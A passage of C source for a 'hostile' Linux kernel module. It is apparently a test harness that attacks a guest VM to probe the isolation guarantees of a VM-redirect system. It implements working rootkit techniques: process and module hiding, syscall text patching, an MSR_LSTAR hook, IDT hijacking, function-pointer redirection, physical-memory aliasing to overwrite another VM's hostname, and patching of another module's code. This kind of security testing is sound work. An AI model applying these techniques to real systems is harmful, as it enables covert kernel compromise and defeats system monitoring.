 * On a one-CPU GVM nothing else runs meanwhile, and the CPU is never at a point where the
 * VMM may hold it (halted or in user mode). N is capped below the soft-lockup (20 s) and
 * RCU-stall (21 s) thresholds.
 */
#define SPIN_DELAY_MS 5000
#define SPIN_MAX_SECS 16
static int spin_kernel;
static bool spinner_live;		/* under knob_lock */
static DECLARE_COMPLETION(spinner_done);

static int spinner_fn(void *arg)
{
	u64 end;

	msleep(SPIN_DELAY_MS);
	end = ktime_get_ns() + (u64)(unsigned long)arg * NSEC_PER_SEC;
	preempt_disable();
	while (ktime_get_ns() < end)
		cpu_relax();
	preempt_enable();
	complete(&spinner_done);
	return 0;
}

static int spin_kernel_switch(int secs)
{
	struct task_struct *t;

	if (secs < 0 || secs > SPIN_MAX_SECS)
		return -EINVAL;
	if (spinner_live) {
		if (!completion_done(&spinner_done))
			return -EBUSY;
		spinner_live = false;
	}
	if (!secs)
		return 0;
	reinit_completion(&spinner_done);
	t = kthread_run(spinner_fn, (void *)(unsigned long)secs, "hostile_spin");
	if (IS_ERR(t))
		return PTR_ERR(t);
	spinner_live = true;
	snprintf(knob_note, sizeof(knob_note), " (spins %d s from %d ms on, pid %d)", secs,
		 SPIN_DELAY_MS, task_pid_nr(t));
	return 0;
}

/* ---- 7. alias_uts, alias_uts_split: the shadow task's uts_ns where we choose ---- */

/*
 * Hole 2 of docs/SECURITY.md: a redirected call runs the trusted text on the GVM's own
 * kernel page tables, so a mapping the GVM made decides which physical memory the call's
 * data accesses reach. In the redirect VM, the guest-physical addresses past GVM RAM
 * held the VMM's window (at the next 1 GiB boundary; its first page the view's PML4)
 * and, from svm_base (the next 64 GiB boundary) up, all of SVM RAM, writable; in the
 * GVM they are backed by nothing, and the GVM never touches the alias. The SVM runs the
 * same kernel at the same physical address, so B = svm_base makes the alias the SVM's
 * own init_uts_ns: an exterior uname reads the SVM's hostname, sethostname writes it.
 *
 * Only the shadow task may follow the alias. It is a copy of init_task (the idle task
 * of CPU 0), so init_task gets a private nsproxy at load: a copy of init_nsproxy, the
 * same namespaces. Every other task got init_nsproxy by fork from a task that had it
 * (the other CPUs' idle tasks too: forked at boot under pid 1), and the idle task forks
 * nothing after boot and never exits; so nobody takes or drops a reference to the copy.
 * Its count is 1 (init_task's); the namespaces it points at are the static init ones,
 * which need no reference of their own, and init_nsproxy keeps a count one too high,
 * harmless for a static object. The copy is never freed: a shadow task made while it
 * was installed keeps pointing at it, after module exit too.
 */
static struct nsproxy *fake_nsproxy;	/* init_task's copy; NULL if it could not be made */
static struct nsproxy *saved_nsproxy;	/* init_task's nsproxy at load: init_nsproxy */
static unsigned long alias_uts;		/* the knob: B, or 0 */
static unsigned long alias_uts_split;	/* the knob: B, or 0 */

/* What the installed alias is made of; at most one, of either knob, at a time. */
struct uts_alias {
	void __iomem *io;		/* alias_uts: the ioremap (page-aligned) */
	struct vm_struct *area;		/* alias_uts_split: its two pages of address space */
	struct page *page;		/* alias_uts_split: its second page, GVM RAM */
};
static struct uts_alias cur_alias;

/* Neither exported: found at load (get_vm_area, ioremap_page_range). */
static typeof(&get_vm_area) p_get_vm_area;
static typeof(&ioremap_page_range) p_ioremap_page_range;

/*
 * alias_uts_split: the bytes of the fake uts_namespace in the window page (the first
 * page of the alias): sysname and nodename, [65, 130), whole, the store sethostname
 * makes; the rest, user_ns at 392 on, is in the second page (GVM RAM, a copy of
 * init_uts_ns's bytes). The struct's offsets are the pinned kernel's (its BTF: name
 * 0..390, user_ns 392, ucounts 400, ns 408..432); the asserts below hold the build to
 * them. 144 puts the namespace at page offset 0xf70 (8-aligned, as the struct is)
 * and nodename at 0xfb1..0xff1: PML4 entries 0x1f6..0x1fe when the page is the view's
 * PML4, 0x1fd the window's own slot.
 */
#define UTS_SPLIT_HEAD 144

static void __init alias_uts_init(void)
{
	struct nsproxy *fake;

	saved_nsproxy = init_task.nsproxy;
	fake = kmemdup(saved_nsproxy, sizeof(*fake), GFP_KERNEL);
	if (!fake) {
		pr_warn("no copy of init_nsproxy; alias_uts and alias_uts_split fail\n");
		return;
	}
	atomic_set(&fake->count, 1);	/* init_task's reference, the only one */
	/* Under task_lock, as switch_task_namespaces; release for the lockless readers
	 * (current->nsproxy in an interrupt on CPU 0): they see the whole copy. */
	task_lock(&init_task);
	smp_store_release(&init_task.nsproxy, fake);
	task_unlock(&init_task);
	fake_nsproxy = fake;
}

/*
 * Unmaps and frees an alias. free_vm_area unmaps both pages (nothing else: the window
 * page is no RAM, and the second page is freed here, after its mapping is gone).
 */
static void uts_alias_free(struct uts_alias *a)
{
	if (a->io)
		iounmap(a->io);
	if (a->area)
		free_vm_area(a->area);
	if (a->page)
		__free_page(a->page);
	*a = (struct uts_alias){};
}

/*
 * Points init_task's uts_ns at ns, in the alias a (init_uts_ns with an empty a), then
 * frees the alias it replaces: a switch of either knob replaces the other's alias, and
 * both knobs read 0 until the caller sets its own. The store is a single aligned word
 * with release semantics (what the alias holds, the copy in GVM RAM, is visible before
 * the pointer): no redirected call sees a torn pointer, and none runs meanwhile anyway
 * (the GVM is paused during a call; a call parked in uname or sethostname reads the
 * pointer again once it holds uts_sem, and copies under it without sleeping).
 */
static void uts_alias_switch(struct uts_namespace *ns, struct uts_alias *a)
{
	struct uts_alias old = cur_alias;

	smp_store_release(&fake_nsproxy->uts_ns, ns);
	cur_alias = *a;
	alias_uts = 0;
	alias_uts_split = 0;
	uts_alias_free(&old);
}

static int uts_alias_off(void)
{
	struct uts_alias none = {};

	uts_alias_switch(&init_uts_ns, &none);
	snprintf(knob_note, sizeof(knob_note), " (uts_ns back at init_uts_ns %px)",
		 &init_uts_ns);
	return 0;
}

/*
 * alias_uts=B: B + the physical address of init_uts_ns, through ioremap.
 * ioremap WARNs on RAM and on addresses past the CPU's physical address width, which
 * the tests' console checks would count as kernel trouble: those are refused first.
 */
static int alias_uts_switch(unsigned long base)
{
	const unsigned long uts_phys = __pa_symbol(&init_uts_ns);
	const unsigned long off = offset_in_page(uts_phys);
	const unsigned long size = PAGE_ALIGN(off + sizeof(struct uts_namespace));
	const u64 limit = 1ULL << boot_cpu_data.x86_phys_bits;
	struct uts_alias a = {};
	u64 phys;

	if (!fake_nsproxy)
		return -ENOENT;
	if (!base)
		return uts_alias_off();
	if (offset_in_page(base)) {
		pr_err("alias_uts: %#lx is not page-aligned\n", base);
		return -EINVAL;
	}
	if (check_add_overflow((u64)base, (u64)(uts_phys & PAGE_MASK), &phys) ||
	    phys >= limit || size > limit - phys) {
		pr_err("alias_uts: %#lx + %#lx is past the %u-bit physical address space\n",
		       base, uts_phys & PAGE_MASK, boot_cpu_data.x86_phys_bits);
		return -EINVAL;
	}
	if (region_intersects(phys, size, IORESOURCE_SYSTEM_RAM, IORES_DESC_NONE) !=
	    REGION_DISJOINT) {
		pr_err("alias_uts: %#llx is the GVM's own RAM; ioremap maps no RAM\n", phys);
		return -EINVAL;
	}
	a.io = ioremap_cache(phys, size);
	if (!a.io)
		a.io = ioremap(phys, size);
	if (!a.io) {
		pr_err("alias_uts: ioremap of %#llx (%#lx bytes) refused\n", phys, size);
		return -EINVAL;
	}
	uts_alias_switch((struct uts_namespace __force *)(a.io + off), &a);
	snprintf(knob_note, sizeof(knob_note),
		 " (phys %#llx mapped at %px: init_task's uts_ns; init_uts_ns at phys %#lx)",
		 phys + off, a.io + off, uts_phys);
	return 0;
}

/*
 * alias_uts_split=B: two pages of address space, made as ioremap makes its own
 * (get_vm_area with VM_IOREMAP, which /proc/kcore and vread skip as a hole, then
 * ioremap_page_range), the first mapping physical page B, the second a fresh page of
 * GVM RAM; init_task's uts_ns is the namespace UTS_SPLIT_HEAD bytes before the second.
 * So a sethostname through it reads user_ns (the capability check: &init_user_ns,
 * which passes for the shadow's init credentials) from GVM RAM, and the first access
 * it makes to page B is the store of the new nodename. ioremap_page_range checks
 * nothing about what it maps (in 6.1: no RAM test, no WARN; that is ioremap's) and
 * maps both pages write-back, as the direct map maps the RAM page: no memtype
 * conflict; the whole range is fresh, so its BUG_ON on a present entry cannot fire.
 * B must not be the GVM's RAM (the attack is on a page the GVM does not have; in the
 * redirect VM a page of its own RAM would be just that) and must fit the CPU's physical
 * address width. An uname through the alias reads sysname, nodename and most of
 * release from page B: in the redirect VM that is the window, readable (garbage names).
 */
static int alias_uts_split_switch(unsigned long b)
{
	const u64 limit = 1ULL << boot_cpu_data.x86_phys_bits;
	const size_t tail = sizeof(struct uts_namespace) - UTS_SPLIT_HEAD;
	const unsigned long node_at = PAGE_SIZE - UTS_SPLIT_HEAD +
		offsetof(struct uts_namespace, name.nodename);	/* in page B */
	const unsigned long user_ns_at =
		offsetof(struct uts_namespace, user_ns) - UTS_SPLIT_HEAD;	/* in the RAM page */
	struct uts_alias a = {};
	unsigned long va;
	int ret;

	BUILD_BUG_ON(offsetofend(struct uts_namespace, name.nodename) > UTS_SPLIT_HEAD);
	BUILD_BUG_ON(offsetof(struct uts_namespace, user_ns) < UTS_SPLIT_HEAD);
	BUILD_BUG_ON(UTS_SPLIT_HEAD % __alignof__(struct uts_namespace));
	if (!fake_nsproxy)
		return -ENOENT;
	if (!b)
		return uts_alias_off();
	if (!p_get_vm_area || !p_ioremap_page_range)
		return -ENOENT;
	if (offset_in_page(b)) {
		pr_err("alias_uts_split: %#lx is not page-aligned\n", b);
		return -EINVAL;
	}
	if (b >= limit || PAGE_SIZE > limit - b) {
		pr_err("alias_uts_split: %#lx is past the %u-bit physical address space\n",
		       b, boot_cpu_data.x86_phys_bits);
		return -EINVAL;
	}
	if (region_intersects(b, PAGE_SIZE, IORESOURCE_SYSTEM_RAM, IORES_DESC_NONE) !=
	    REGION_DISJOINT) {
		pr_err("alias_uts_split: %#lx is the GVM's own RAM\n", b);
		return -EINVAL;
	}
	a.page = alloc_page(GFP_KERNEL | __GFP_ZERO);
	if (!a.page)
		return -ENOMEM;
	/* user_ns, ucounts, ns and the end of name: init_uts_ns's own. Unlocked, as
	 * fake_uname copies: only a racing setdomainname of the GVM could tear a string
	 * here (domainname), which nothing the attack runs reads. */
	memcpy(page_address(a.page), (const char *)&init_uts_ns + UTS_SPLIT_HEAD, tail);
	a.area = p_get_vm_area(2 * PAGE_SIZE, VM_IOREMAP);
	if (!a.area) {
		ret = -ENOMEM;
		goto fail;
	}
	va = (unsigned long)a.area->addr;
	ret = p_ioremap_page_range(va, va + PAGE_SIZE, b, PAGE_KERNEL);
	if (!ret)
		ret = p_ioremap_page_range(va + PAGE_SIZE, va + 2 * PAGE_SIZE,
					   page_to_phys(a.page), PAGE_KERNEL);
	if (ret)
		goto fail;
	uts_alias_switch((struct uts_namespace *)(va + PAGE_SIZE - UTS_SPLIT_HEAD), &a);
	snprintf(knob_note, sizeof(knob_note),
		 " (uts_ns %px; nodename at phys [%#lx, %#lx), user_ns at phys %#llx)",
		 (void *)(va + PAGE_SIZE - UTS_SPLIT_HEAD), b + node_at,
		 b + node_at + sizeof_field(struct new_utsname, nodename),
		 (u64)page_to_phys(a.page) + user_ns_at);
	return 0;
fail:
	pr_err("alias_uts_split: mapping %#lx and a page of RAM failed: %d\n", b, ret);
	uts_alias_free(&a);
	return ret;
}

/* Module exit: init_task back on init_nsproxy; the copy stays, on init_uts_ns. */
static void alias_uts_exit(void)
{
	if (!fake_nsproxy)
		return;
	WRITE_ONCE(fake_nsproxy->uts_ns, &init_uts_ns);
	uts_alias_free(&cur_alias);
	task_lock(&init_task);
	WRITE_ONCE(init_task.nsproxy, saved_nsproxy);
	task_unlock(&init_task);
}

/* ---- 8. hijack_idt: idt_table no longer the IDT the GVM's CPUs use -------- */

static int hijack_idt;
static gate_desc *idt_copy;	/* the GVM's CPUs' IDT while hijacked */
static struct desc_ptr idt_saved;	/* what they had: the entry area's alias of idt_table */
static gate_desc pf_saved;

static void load_idt_ipi(void *desc)
{
	native_load_idt(desc);
}

/* idt_table is read-only after boot: gate VECTOR is written through a vmap alias. */
static int idt_table_write(int vector, const gate_desc *gate)
{
	struct page *page = virt_to_page(p_idt_table);
	gate_desc *alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);

	if (!alias)
		return -ENOMEM;
	memcpy(&alias[vector], gate, sizeof(*gate));
	vunmap(alias);
	return 0;
}

static int hijack_idt_on(void)
{
	unsigned long target = a_asm_exc_int3;
	struct desc_ptr mine;
	gate_desc gate;
	int ret;

	if (!p_idt_table || !target)
		return -ENOENT;
	idt_copy = (gate_desc *)get_zeroed_page(GFP_KERNEL);
	if (!idt_copy)
		return -ENOMEM;
	memcpy(idt_copy, p_idt_table, PAGE_SIZE);
	store_idt(&idt_saved);
	mine.address = (unsigned long)idt_copy;
	mine.size = idt_saved.size;
	cpus_read_lock();
	on_each_cpu(load_idt_ipi, &mine, 1);
	pf_saved = p_idt_table[X86_TRAP_PF];
	gate = pf_saved;
	gate.offset_low = (u16)target;
	gate.offset_middle = (u16)(target >> 16);
	gate.offset_high = (u32)(target >> 32);
	ret = idt_table_write(X86_TRAP_PF, &gate);
	if (ret)
		on_each_cpu(load_idt_ipi, &idt_saved, 1);
	cpus_read_unlock();
	if (ret) {
		free_page((unsigned long)idt_copy);
		idt_copy = NULL;
		return ret;
	}
	snprintf(knob_note, sizeof(knob_note),
		 " (CPUs on a private IDT at %px; idt_table %px: #PF gate -> asm_exc_int3 %#lx)",
		 idt_copy, p_idt_table, target);
	return 0;
}

static void hijack_idt_off(void)
{
	if (idt_table_write(X86_TRAP_PF, &pf_saved))
		pr_warn("hijack_idt: the #PF gate of idt_table could not be restored\n");
	cpus_read_lock();
	on_each_cpu(load_idt_ipi, &idt_saved, 1);
	cpus_read_unlock();
	free_page((unsigned long)idt_copy);
	idt_copy = NULL;
}

static int hijack_idt_switch(int on)
{
	if (on != 0 && on != 1)
		return -EINVAL;
	if (!!on == !!hijack_idt)
		return 0;
	if (on)
		return hijack_idt_on();
	hijack_idt_off();
	return 0;
}

/* /proc/hostile_hook: module code a read runs. */
static int hook_show(struct seq_file *m, void *v)
{
	seq_puts(m, "hostile hook ran\n");
	return 0;
}

/* /proc/hostile_gadget: its read function is a pointer gadget_lidt aims. */
static int gadget_lidt;
static unsigned long a_idt_invalidate;

static ssize_t gadget_read(struct file *file, char __user *buf, size_t count,
			   loff_t *ppos)
{
	return 0;
}

static struct proc_ops gadget_ops = {	/* not const: the knob rewrites it */
	.proc_read = gadget_read,
};

static int gadget_lidt_switch(int on)
{
	if (on != 0 && on != 1)
		return -EINVAL;
	if (on && !a_idt_invalidate)
		return -ENOENT;
	/* proc_reg_read loads the pointer at each read: one aligned store switches it. */
	WRITE_ONCE(gadget_ops.proc_read,
		   on ? (typeof(gadget_ops.proc_read))a_idt_invalidate : gadget_read);
	if (on)
		snprintf(knob_note, sizeof(knob_note), " (proc_read -> idt_invalidate %px)",
			 (void *)a_idt_invalidate);
	return 0;
}

/* ---- the knobs ------------------------------------------------------------ */

static int knob_set(const char *val, const struct kernel_param *kp,
		    int (*sw)(int))
{
	int v, ret;

	ret = kstrtoint(val, 0, &v);
	if (ret)
		return ret;
	mutex_lock(&knob_lock);
	knob_note[0] = '\0';
	if (!ready || exiting)
		ret = -EBUSY;	/* not at insmod time: switch after load */
	else
		ret = sw(v);
	if (!ret)
		*(int *)kp->arg = v;
	if (ret)
		pr_info("%s failed: %d\n", kp->name, ret);
	else
		pr_info("%s = %d ok%s\n", kp->name, v, knob_note);
	mutex_unlock(&knob_lock);	/* after printing: knob_note is ours till then */
	return ret;
}

#define KNOB(name, sw)							\
	static int set_##name(const char *val, const struct kernel_param *kp) \
	{ return knob_set(val, kp, sw); }				\
	static const struct kernel_param_ops name##_ops = {		\
		.set = set_##name, .get = param_get_int,		\
	};								\
	module_param_cb(name, &name##_ops, &name, 0644)

KNOB(hide_pid, hide_pid_switch);
MODULE_PARM_DESC(hide_pid, "pid hidden from getdents64 and kill (0 = off)");
KNOB(hide_self, hide_self_switch);
MODULE_PARM_DESC(hide_self, "1 = unlinked from the module list");
KNOB(patch_uname, patch_uname_switch);
MODULE_PARM_DESC(patch_uname, "1 = __x64_sys_newuname text patched: nodename rootkit");
KNOB(remap_uname, remap_uname_switch);
MODULE_PARM_DESC(remap_uname, "1 = text page of __x64_sys_newuname remapped to a patched copy: nodename remapped");
KNOB(hook_lstar, hook_lstar_switch);
MODULE_PARM_DESC(hook_lstar, "1 = MSR_LSTAR points at a trampoline in the module that jumps to entry_SYSCALL_64");
KNOB(hold_uts_sem, hold_uts_sem_switch);
KNOB(lock_siglock, lock_siglock_switch);
KNOB(spin_kernel, spin_kernel_switch);
MODULE_PARM_DESC(spin_kernel, "N = in 5 s, a kernel thread spins N s (at most 16) with preemption off");
MODULE_PARM_DESC(lock_siglock, "PID = that task's siglock held (a redirected signal to it spins) (0 = off)");
MODULE_PARM_DESC(hold_uts_sem, "1 = uts_sem held for writing: uname, sethostname and co. sleep until 0");
KNOB(hijack_idt, hijack_idt_switch);
MODULE_PARM_DESC(hijack_idt, "1 = CPUs on a private IDT copy, idt_table's #PF gate -> asm_exc_int3");
KNOB(gadget_lidt, gadget_lidt_switch);
MODULE_PARM_DESC(gadget_lidt, "1 = /proc/hostile_gadget's read function -> idt_invalidate (loads an empty IDT)");

/* alias_uts and alias_uts_split take an address, an unsigned long: knob_set's steps
 * for that type. */
static int knob_set_ulong(const char *val, const struct kernel_param *kp,
			  int (*sw)(unsigned long))
{
	unsigned long v;
	int ret;

	ret = kstrtoul(val, 0, &v);	/* base 0: 0x1000000000 as well as 68719476736 */
	if (ret)
		return ret;
	mutex_lock(&knob_lock);
	knob_note[0] = '\0';
	if (!ready || exiting)
		ret = -EBUSY;	/* not at insmod time: switch after load */
	else
		ret = sw(v);
	if (!ret)
		*(unsigned long *)kp->arg = v;
	if (ret)
		pr_info("%s failed: %d\n", kp->name, ret);
	else
		pr_info("%s = %#lx ok%s\n", kp->name, v, knob_note);
	mutex_unlock(&knob_lock);
	return ret;
}

#define KNOB_ULONG(name, sw)						\
	static int set_##name(const char *val, const struct kernel_param *kp) \
	{ return knob_set_ulong(val, kp, sw); }				\
	static const struct kernel_param_ops name##_ops = {		\
		.set = set_##name, .get = param_get_ulong,		\
	};								\
	module_param_cb(name, &name##_ops, &name, 0644)

KNOB_ULONG(alias_uts, alias_uts_switch);
MODULE_PARM_DESC(alias_uts, "B = the uts_ns of init_task's (the shadow task's) nsproxy at physical B + that of init_uts_ns (0 = off)");
KNOB_ULONG(alias_uts_split, alias_uts_split_switch);
MODULE_PARM_DESC(alias_uts_split, "B = that uts_ns straddling physical page B (sysname, nodename) and a page of GVM RAM (user_ns on) (0 = off)");

/* ---- alter_dummy: one byte of another module's text changed ---------------- */

static int alter_dummy;
static unsigned long altered_at;	/* the byte written while alter_dummy=1 */

static int alter_dummy_switch(int on)
{
	struct module *mod;
	unsigned long at = 0;
	u8 byte;

	if (!!on == !!alter_dummy)
		return 0;
	if (!on) {
		byte = 0;
		return text_write(altered_at, &byte, 1);
	}
	if (!p_module_mutex || !p_modules)
		return -ENOENT;
	mutex_lock(p_module_mutex);
	list_for_each_entry(mod, p_modules, list) {
		if (!strcmp(mod->name, "dummy") && mod->state == MODULE_STATE_LIVE)
			at = (unsigned long)mod->core_layout.base + mod->core_layout.text_size - 1;
	}
	mutex_unlock(p_module_mutex);
	if (!at)
		return -ENOENT;
	if (*(u8 *)at)
		return -EBUSY;
	byte = 0xcc;
	altered_at = at;
	snprintf(knob_note, sizeof(knob_note), " (byte at %px)", (void *)at);
	return text_write(at, &byte, 1);
}
KNOB(alter_dummy, alter_dummy_switch);
MODULE_PARM_DESC(alter_dummy, "1 = the dummy module's last text byte (padding) is int3");

/* ---- load and unload ------------------------------------------------------ */

static unsigned long __init resolve(const char *name)
{
	unsigned long a = lookup_name(name);

	if (!a)
		pr_warn("symbol %s not found; the knobs that need it fail\n", name);
	return a;
}

static int __init hostile_init(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	int ret;

	ret = register_kprobe(&kp);
	if (ret) {
		pr_err("kprobe on kallsyms_lookup_name failed: %d\n", ret);
		return ret;
	}
	lookup_name = (lookup_fn)kp.addr;
	unregister_kprobe(&kp);
	if (!lookup_name)
		return -ENOENT;
	pr_info("loaded, kallsyms_lookup_name at %px\n", lookup_name);

	a_getdents64 = resolve("__x64_sys_getdents64");
	a_kill = resolve("__x64_sys_kill");
	a_newuname = resolve("__x64_sys_newuname");
	real_getdents64 = (syscall_fn)a_getdents64;
	real_kill = (syscall_fn)a_kill;
	p_text_mutex = (struct mutex *)resolve("text_mutex");
	p_module_mutex = (struct mutex *)resolve("module_mutex");
	p_modules = (struct list_head *)resolve("modules");
	p_stop_machine_cpuslocked = (stop_cpuslocked_fn)resolve("stop_machine_cpuslocked");
	a_entry_syscall = resolve("entry_SYSCALL_64");
	p_uts_sem = (struct rw_semaphore *)resolve("uts_sem");
	p_idt_table = (gate_desc *)resolve("idt_table");
	a_asm_exc_int3 = resolve("asm_exc_int3");
	p_get_vm_area = (typeof(p_get_vm_area))resolve("get_vm_area");
	p_ioremap_page_range = (typeof(p_ioremap_page_range))resolve("ioremap_page_range");
	a_idt_invalidate = resolve("idt_invalidate");
	alias_uts_init();
	if (!proc_create_single("hostile_hook", 0444, NULL, hook_show))
		pr_warn("/proc/hostile_hook could not be made\n");
	if (!proc_create("hostile_gadget", 0444, NULL, &gadget_ops))
		pr_warn("/proc/hostile_gadget could not be made\n");

	mutex_lock(&knob_lock);
	ready = true;
	mutex_unlock(&knob_lock);
	return 0;
}

static void __exit hostile_exit(void)
{
	mutex_lock(&knob_lock);
	exiting = true;
	/* Before anything else: the trampoline lives in this module's text. */
	if (hook_lstar)
		hook_lstar_off();
	remove_proc_entry("hostile_hook", NULL);
	remove_proc_entry("hostile_gadget", NULL);
	if (hijack_idt)
		hijack_idt_off();
	lock_siglock_switch(0);
	if (spinner_live)
		wait_for_completion(&spinner_done);
	if (uts_holder) {
		kthread_stop(uts_holder);	/* up_write by the thread itself */
		uts_holder = NULL;
	}
	alias_uts_exit();
	alter_dummy_switch(0);
	/* Remap first: the hooks can only go (text pokes) once the text is back. */
	remap_uname_off(true);
	if (patch_uname && text_write(a_newuname, uname_saved, JMP_LEN))
		pr_warn("patch_uname could not be undone\n");
	hooks_remove();
	if (hidden)	/* cannot happen: rmmod does not find a hidden module */
		hide_self_switch(0);
	mutex_unlock(&knob_lock);
	/* No task may still be on its way into a hook (e.g. preempted right after
	 * the jmp, before counting itself): RCU Tasks waits for every task to pass
	 * a voluntary switch, as ftrace does before freeing a trampoline. */
	synchronize_rcu_tasks();
	wait_inflight();
	synchronize_rcu();
	pr_info("unloaded\n");
}

module_init(hostile_init);
module_exit(hostile_exit);
